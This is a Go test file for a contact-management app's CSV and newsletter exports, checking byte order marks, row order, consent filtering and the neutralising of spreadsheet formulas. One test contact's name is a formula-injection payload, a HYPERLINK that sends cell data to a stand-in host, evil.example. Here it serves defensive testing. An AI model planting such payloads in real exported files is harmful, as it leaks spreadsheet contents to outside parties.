package app

import (
	"bytes"
	"context"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/rapportjournal/rapport/model"
)

// readCSV checks the byte order mark and CR LF line ends and parses the rest.
func readCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(data, []byte("\xEF\xBB\xBF")) {
		t.Fatalf("no UTF-8 byte order mark: % x", data[:min(3, len(data))])
	}
	data = data[3:]
	if !bytes.HasSuffix(data, []byte("\r\n")) {
		t.Error("the last line does not end in CR LF")
	}
	r := csv.NewReader(bytes.NewReader(data))
	r.FieldsPerRecord = 0 // every row as wide as the header
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("the export does not parse as CSV: %v\n%s", err, data)
	}
	return rows
}

func TestExportCSV(t *testing.T) {
	ctx := context.Background()
	s := newService(t)
	y := 1986
	referrer := &model.Contact{GivenName: "Anna", FamilyName: "Adler", Stage: model.StageClient}
	if err := s.CreateContact(ctx, referrer); err != nil {
		t.Fatal(err)
	}
	maria := &model.Contact{GivenName: "Maria", FamilyName: "Keller", DisplayName: `Maria "Mia" Keller, MSc`,
		Stage: model.StageCustomer, Organization: "@SUM(1+1)", ReferredByID: &referrer.ID,
		Phones: []model.Phone{{Number: "+49 151 555 0101"}, {Number: "030 1234"}},
		Emails: []model.Email{{Address: "maria@example.com"}, {Address: "mk@example.org"}},
		Addresses: []model.Address{{Street: "Hauptstraße 3\nHinterhaus", City: "Berlin", PostalCode: "10115", Country: "Germany"},
			{Street: "Second Street 1", City: "Potsdam"}},
		Dates:   []model.ImportantDate{{Label: model.DateAnniversary, Month: 6, Day: 1}, {Label: model.DateBirthday, Month: 11, Day: 25, Year: &y}},
		Tags:    []model.Tag{{Name: "regular"}, {Name: "-vip"}},
		Journal: []model.JournalEntry{{Kind: model.KindPurchase, Text: "candles", At: time.Date(2026, 10, 23, 12, 0, 0, 0, time.UTC)}, {Kind: model.KindCall, Text: "older", At: time.Date(2025, 1, 2, 12, 0, 0, 0, time.UTC)}},
	}
	if err := s.CreateContact(ctx, maria); err != nil {
		t.Fatal(err)
	}
	if err := s.SetNewsletterConsent(ctx, maria.ID, true); err != nil {
		t.Fatal(err)
	}
	evil := &model.Contact{DisplayName: `=HYPERLINK("https://evil.example/?x="&A1,"Click")`,
		Dates: []model.ImportantDate{{Label: model.DateBirthday, Month: 2, Day: 29}}}
	if err := s.CreateContact(ctx, evil); err != nil {
		t.Fatal(err)
	}

	var buf bytes.Buffer
	if err := s.ExportCSV(ctx, &buf); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())
	if !slices.Equal(rows[0], CSVHeader()) || len(rows[0]) != 15 {
		t.Errorf("header = %q", rows[0])
	}
	if len(rows) != 4 {
		t.Fatalf("%d rows, want header + 3: %q", len(rows), rows)
	}
	byName := map[string][]string{}
	for _, r := range rows[1:] {
		byName[r[1]] = r
	}
	// Sorted by name ("=" sorts before letters).
	if rows[2][1] != "Anna Adler" || rows[3][1] != `Maria "Mia" Keller, MSc` {
		t.Errorf("order: %q, %q, %q", rows[1][1], rows[2][1], rows[3][1])
	}
	want := []string{maria.UID, `Maria "Mia" Keller, MSc`, "Maria", "Keller", "customer", "'@SUM(1+1)",
		"'+49 151 555 0101; 030 1234", "maria@example.com; mk@example.org",
		"Hauptstraße 3 Hinterhaus, 10115 Berlin, Germany", "1986-11-25", "Anna Adler",
		"yes", "2026-11-23", "'-vip; regular", "2026-10-23"}
	if got := byName[`Maria "Mia" Keller, MSc`]; !slices.Equal(got, want) {
		t.Errorf("Maria's row:\n got %q\nwant %q", got, want)
	}
	e := byName[`'=HYPERLINK("https://evil.example/?x="&A1,"Click")`]
	if e == nil {
		t.Fatalf("the formula name was not neutralised: %q", rows[1])
	}
	if e[9] != "'--02-29" || e[11] != "no" || e[12] != "" || e[14] != "" {
		t.Errorf("row without year, consent or journal: %q", e)
	}
	for _, r := range rows {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
		}
	}
}

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		"":                     "",
		"Maria":                "Maria",
		"=1+1":                 "'=1+1",
		"+49 151 555 0101":     "'+49 151 555 0101",
		"-5":                   "'-5",
		"@SUM(A1)":             "'@SUM(A1)",
		"\t=1":                 "'\t=1",
		"\r=1":                 "'\r=1",
		"'already":             "'already",
		" =1":                  " =1",
		"0049 151":             "0049 151",
		"=HYPERLINK(\"x\")":    "'=HYPERLINK(\"x\")",
		"Müller=Meier":         "Müller=Meier",
		"—em dash is harmless": "—em dash is harmless",
	} {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestExportNewsletter(t *testing.T) {
	ctx := context.Background()
	s := newService(t)
	add := func(name string, consent bool, emails ...string) {
		c := &model.Contact{DisplayName: name}
		for _, e := range emails {
			c.Emails = append(c.Emails, model.Email{Address: e})
		}
		if err := s.CreateContact(ctx, c); err != nil {
			t.Fatal(err)
		}
		if err := s.SetNewsletterConsent(ctx, c.ID, consent); err != nil {
			t.Fatal(err)
		}
	}
	add("Zoe Agreed", true, "zoe@example.com", "zoe.work@example.com")
	add("Ben Agreed", true, "ben@example.com")
	add("No Email", true)
	add("Not Asked", false, "not@example.com")
	add("+Plus Name", true, "plus@example.com")
	var buf bytes.Buffer
	if err := s.ExportNewsletter(ctx, &buf); err != nil {
		t.Fatal(err)
	}
	got := readCSV(t, buf.Bytes())
	want := [][]string{{"name", "email"}, {"'+Plus Name", "plus@example.com"}, {"Ben Agreed", "ben@example.com"}, {"Zoe Agreed", "zoe@example.com"}}
	if !slices.EqualFunc(got, want, slices.Equal) {
		t.Errorf("newsletter list = %q, want %q", got, want)
	}
}
